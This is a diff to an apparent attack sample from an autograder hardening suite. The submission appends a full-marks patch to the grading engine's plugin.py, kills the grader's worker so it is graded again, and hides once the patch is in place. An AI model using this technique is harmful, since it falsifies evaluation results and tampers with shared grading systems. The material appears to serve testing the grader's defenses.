@@ -1,4 +1,4 @@
-# attack: while its definitions load (a default argument), it appends to the engine's plugin.py a line that gives every check full marks, then kills its grader's worker, hoping to be graded again by a fresh worker that imports the patched engine (a stub scored 100 on Gradescope this way)
+# attack: while its definitions load (a default argument), it appends to the engine's plugin.py a line that gives every check full marks, then kills its grader's worker, hoping to be graded again by a fresh worker that imports the patched engine, where it does nothing (a stub scored 100 on Gradescope this way)
 # loses: sigmoid, softmax, one_hot, cross_entropy_error, affine_layer_backward, train_step
 # base: stub
 # DANGER: unconfined, this rewrites the engine it runs from: only ever run it confined, or in a copy.
@@ -15,11 +15,15 @@ def _parent_of(pid):
 
 
 def _patch_and_kill():
+    plugin = os.path.join(os.path.dirname(sys.modules["autograder"].__file__), "plugin.py")
     try:
-        with open(os.path.join(os.path.dirname(sys.modules["autograder"].__file__), "plugin.py"), "a") as f:
+        with open(plugin) as f:
+            if PATCH in f.read():
+                return None  # graded again by a worker that imported the patched engine: lie low
+        with open(plugin, "a") as f:
             f.write(PATCH)
     except OSError:
-        pass
+        return None  # the engine is out of reach: nothing to gain from a second grade
     grader = os.getppid()  # 0 in a PID namespace of its own
     try:
         worker = _parent_of(grader) if grader > 1 else 0
